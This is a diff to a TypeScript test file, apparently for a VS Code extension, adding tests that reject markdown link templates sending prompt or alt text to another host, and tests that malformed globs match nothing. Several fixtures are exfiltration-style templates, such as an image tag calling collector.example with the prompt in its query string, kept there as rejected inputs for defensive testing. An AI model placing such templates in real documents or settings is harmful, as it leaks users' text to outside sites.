@@ -92,7 +92,7 @@ describe('markdown.copyFiles.destination', () => {
     assert.equal(matchDestination({ '/docs/**/*': 'x/' }, document, ['/w']), 'x/');
     assert.equal(matchDestination({ '/blog/**': 'x/' }, document, ['/w']), undefined);
     assert.equal(matchDestination({ '**/*.{mdx,md}': 'y/' }, document, ['/w']), 'y/');
-    assert.ok(globToRegExp('**/.hidden/*.md').test('/w/.hidden/a.md'), 'dot files match');
+    assert.ok(globToRegExp('**/.hidden/*.md')?.test('/w/.hidden/a.md'), 'dot files match');
   });
 
   it('resolves variables, relative and workspace-rooted destinations, as VS Code documents them', () => {
@@ -107,5 +107,31 @@ describe('markdown.copyFiles.destination', () => {
     assert.ok(!isInside('/w', '/etc/a.png'));
     assert.ok(isInside('/w', '/w/a/b.png'));
     assert.ok(!isInside('/w', '/wx/a.png'));
+  });
+});
+
+describe('a link template that would send text to another site (issue 24)', () => {
+  const check = (template: string) => checkTemplate(template, LINK_TEMPLATE_VARIABLES, 'ideogram.linkTemplates.markdown');
+  it('is refused when the prompt or the alt text goes into an address with a host', () => {
+    for (const template of [
+      '<img src="https://collector.example/p.gif?q=${prompt}">',
+      '![x](//collector.example/${alt}.png)',
+      '![${alt}](${path}) ![](http://x.example/t?${prompt})',
+    ]) assert.equal(check(template)?.reason, 'remote-template', template);
+  });
+  it('is fine when the text stays out of any address (the image\'s own path may be anywhere)', () => {
+    for (const template of [
+      '<img src="${path}" alt="${alt}" title="${prompt}">',
+      '![${alt}](${path}) <!-- see https://example.com/docs -->',
+      '[![${alt}](${path})](https://example.com/gallery)',
+      '<img src="https://cdn.example/${path}" alt="${alt}">',
+    ]) assert.equal(check(template), undefined, template);
+  });
+});
+
+describe('a malformed glob in markdown.copyFiles.destination (issue 24)', () => {
+  it('matches nothing instead of throwing a SyntaxError; the next glob still applies', () => {
+    for (const glob of ['docs/[abc', 'docs/{a,b', '[z-a]/*.md']) assert.equal(globToRegExp(glob), undefined, glob);
+    assert.equal(matchDestination({ 'docs/[abc': 'broken/', '**/*.md': 'images/' }, { path: '/w/docs/a.md' } as Parameters<typeof matchDestination>[1], ['/w']), 'images/');
   });
 });
